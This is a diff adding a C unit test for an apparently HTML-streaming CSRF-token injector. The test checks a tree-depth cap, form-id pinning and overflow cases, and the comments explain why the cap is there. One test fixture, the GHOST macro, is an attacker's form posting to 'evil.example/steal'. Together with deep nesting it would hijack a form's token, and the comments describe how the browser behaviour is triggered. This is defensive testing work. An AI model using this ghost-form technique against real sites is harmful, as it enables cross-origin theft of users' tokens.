@@ -2246,6 +2246,145 @@ static void test_deep_templates(void **state)
 	}
 }
 
+/* ---- the tree depth cap (docs/architecture.md) ---- */
+
+/* A form read where S + 2T + 3 (S start tags so far, its own too; T
+ * <table> start tags) reaches 480 may be put beside its parent by the
+ * browser, its field then owned by its nearest ancestor form. The
+ * attacker's ghost: a GET form to another origin whose </form> leaves it
+ * an ancestor. */
+#define GHOST "<form method=get action=//evil.example/steal><div></form>"
+#define SEND_ATTRS " method=post action=/send>"
+#define SEND_BODY "<input name=msg><button>Send</button></form>"
+
+/* pre, then piece k times, then post, into a malloc'd string. */
+static char *deep_doc(const char *pre, const char *piece, size_t k, const char *post)
+{
+	size_t n = strlen(pre) + k * strlen(piece) + strlen(post), at = 0;
+	char *d = malloc(n + 1);
+	assert_non_null(d);
+	put_times(d, &at, pre, 1);
+	put_times(d, &at, piece, k);
+	put_times(d, &at, post, 1);
+	d[at] = '\0';
+	return d;
+}
+
+/* in and want built alike, checked whole, byte by byte, at every split
+ * and prefix (check_doc), and its status whole and cut. */
+static void check_deep(const char *name, const char *pre, const char *piece, size_t k, const char *post,
+                       const char *want_pre, const char *want_post, unsigned count, unsigned status)
+{
+	char *in = deep_doc(pre, piece, k, post), *want = deep_doc(want_pre, piece, k, want_post);
+	check_doc(name, in, strlen(in), want, strlen(want), count);
+	size_t n = strlen(in), at[] = {strlen(pre) + 2, n - strlen(post) + 3, n - 5};
+	if (status_of(in, n, NULL, 0) != status || status_of(in, n, at, 3) != status)
+		fail_msg("%s: status %#x, want %#x", name, status_of(in, n, NULL, 0), status);
+	free(in);
+	free(want);
+}
+
+static void test_depth_guard(void **state)
+{
+	(void)state;
+	/* 475 <i> and the form: S + 3 = 479, today's output; 476: 480, the
+	 * injector's id after "<form" and form="" on the field */
+	check_deep("bound 479", "", "<i>", 475, PF "x" CL, "", PF IN "x" CL, 1, 0);
+	check_deep("bound 480", "", "<i>", 476, PF "x" CL, "", "<form" PIN_ID " method=post>" PIN_IN "x" CL, 2, 0);
+	/* the attack page: the token no longer goes to evil.example */
+	check_deep("ghost and 510 <i>", GHOST, "<i>", 510, "<form" SEND_ATTRS SEND_BODY, GHOST,
+	           "<form" PIN_ID SEND_ATTRS PIN_IN SEND_BODY, 2, 0);
+	/* an id of its own cannot be pinned: after a ghost, reported */
+	check_deep("own id, ghost, deep", GHOST, "<i>", 510, "<form id=send" SEND_ATTRS SEND_BODY, GHOST,
+	           "<form id=send" SEND_ATTRS IN SEND_BODY, 1, CSRF_INJECT_DEEP);
+	check_deep("own id, deep, no ghost", "", "<i>", 510, "<form id=send" SEND_ATTRS SEND_BODY, "",
+	           "<form id=send" SEND_ATTRS IN SEND_BODY, 1, 0);
+	check_deep("own id, ghost, not deep", GHOST, "<i>", 100, "<form id=send" SEND_ATTRS SEND_BODY, GHOST,
+	           "<form id=send" SEND_ATTRS IN SEND_BODY, 1, 0);
+	check_deep("empty id, ghost, deep", GHOST, "<i>", 510, "<form id" SEND_ATTRS SEND_BODY, GHOST,
+	           "<form id" SEND_ATTRS IN SEND_BODY, 1, CSRF_INJECT_DEEP);
+	/* a token form's </form> leaves no ghost */
+	check_deep("own id after a token form", PF CL, "<i>", 510, "<form id=send" SEND_ATTRS SEND_BODY, PF IN CL,
+	           "<form id=send" SEND_ATTRS IN SEND_BODY, 2, 0);
+	/* T: a table adds up to two implied elements; 159 tables (start
+	 * tags) and the form reach 3 * 159 + 4 = 481, 158 only 478 */
+	check_deep("158 tables", "", "<table></table>", 158, PF CL, "", PF IN CL, 1, 0);
+	check_deep("159 tables", "", "<table></table>", 159, PF CL, "", "<form" PIN_ID " method=post>" PIN_IN CL, 2, 0);
+	check_deep("159 <i>", "", "<i>", 159, PF CL, "", PF IN CL, 1, 0);
+	/* what follows the name: the id goes in well-formed */
+	check_deep("slash after the name", "", "<i>", 476, "<form/method=post>" CL, "",
+	           "<form" PIN_ID "/method=post>" PIN_IN CL, 2, 0);
+	check_deep("self-closing", "", "<i>", 476, "<FORM\nMETHOD=\"POST\"/>" CL, "",
+	           "<FORM" PIN_ID "\nMETHOD=\"POST\"/>" PIN_IN CL, 2, 0);
+	check_deep("no attributes: GET", "", "<i>", 476, "<form>" CL, "", "<form>" CL, 0, 0);
+	check_deep("GET after the name", "", "<i>", 476, "<form method=get>" CL, "", "<form method=get>" CL, 0, 0);
+	check_deep("GET button", "", "<i>", 476, PF "<button formmethod=get>" CL, "", PF "<button formmethod=get>" CL,
+	           0, CSRF_INJECT_GET_BUTTON);
+	/* start tags in noscript count: a browser without scripting (DOMParser) builds them */
+	check_deep("noscript content", "<noscript>", "<i>", 475, "</noscript>" PF CL, "<noscript>",
+	           "</noscript><form" PIN_ID " method=post>" PIN_IN CL, 2, 0);
+	/* a nested form is dropped (the pointer is set): nothing held, no id */
+	check_deep("nested", PF, "<i>", 476, PF CL, PF IN, PF CL, 1, CSRF_INJECT_NESTED_FORM);
+
+	/* the ids: random for every form and every run, the field names its own */
+	char *in = deep_doc("", "<i>", 476, PF CL "<form action=/b method=post>" CL);
+	sink a, b;
+	unsigned count;
+	run(in, strlen(in), NULL, 0, &a, &count);
+	assert_int_equal(count, 4);
+	run(in, strlen(in), NULL, 0, &b, &count);
+	assert_int_equal(a.n_ids, 2);
+	assert_int_equal(a.n_named, 2);
+	assert_memory_equal(a.ids[0], a.named[0], 16);
+	assert_memory_equal(a.ids[1], a.named[1], 16);
+	assert_memory_not_equal(a.ids[0], a.ids[1], 16);
+	assert_memory_not_equal(a.ids[0], b.ids[0], 16);
+	assert_memory_not_equal(a.ids[1], b.ids[1], 16);
+	sink_free(&a);
+	sink_free(&b);
+	free(in);
+
+	/* a deep form whose start tag overflows the hold (its bytes from the
+	 * name on): no token, however the stream is cut */
+	size_t big = CSRF_INJECT_HOLD_MAX + 10;
+	char *attr = malloc(big + 1);
+	assert_non_null(attr);
+	memset(attr, 'a', big);
+	attr[big] = '\0';
+	char *pre = deep_doc("", "<i>", 476, "<form method=post data-x=\"");
+	char *doc = deep_doc(pre, attr, 1, "\">x" CL);
+	size_t n = strlen(doc), at1 = strlen(pre) - 10, at2 = n - 10;
+	assert_int_equal(status_of(doc, n, NULL, 0), CSRF_INJECT_LONG_FORM);
+	assert_int_equal(status_of(doc, n, &at1, 1), CSRF_INJECT_LONG_FORM);
+	size_t cuts[] = {at1, at1 + 4096, at1 + 8192, at2};
+	assert_int_equal(status_of(doc, n, cuts, 4), CSRF_INJECT_LONG_FORM);
+	sink o;
+	run(doc, n, cuts, 4, &o, &count);
+	assert_int_equal(count, 0);
+	expect_output("deep long start tag", "cuts", 0, &o, doc, n, doc, n);
+	sink_free(&o);
+	free(doc);
+	/* one that fits gets its id */
+	attr[CSRF_INJECT_HOLD_MAX - 40] = '\0';
+	doc = deep_doc(pre, attr, 1, "\">x" CL);
+	n = strlen(doc);
+	run(doc, n, cuts, 2, &o, &count);
+	assert_int_equal(count, 2);
+	assert_int_equal(o.status, 0);
+	sink_free(&o);
+	free(doc);
+	/* an ESC byte inside a deep form's start tag: the rest as it is */
+	doc = deep_doc("", "<i>", 476, "<form method=post \x1b>x" CL);
+	n = strlen(doc);
+	run(doc, n, NULL, 0, &o, &count);
+	assert_int_equal(count, 0);
+	expect_output("deep ESC", "whole", 0, &o, doc, n, doc, n);
+	sink_free(&o);
+	free(doc);
+	free(pre);
+	free(attr);
+}
+
 /* A stopped stream passes the rest through untouched: no meta, no field. */
 static void test_stopped_passes(void **state)
 {
@@ -2574,6 +2713,7 @@ int main(void)
 	    cmocka_unit_test(test_long_form_quiet),
 	    cmocka_unit_test(test_deep_tables),
 	    cmocka_unit_test(test_deep_templates),
+	    cmocka_unit_test(test_depth_guard),
 	    cmocka_unit_test(test_attr_masks),
 	    cmocka_unit_test(test_long_form),
 	    cmocka_unit_test(test_stopped_passes),
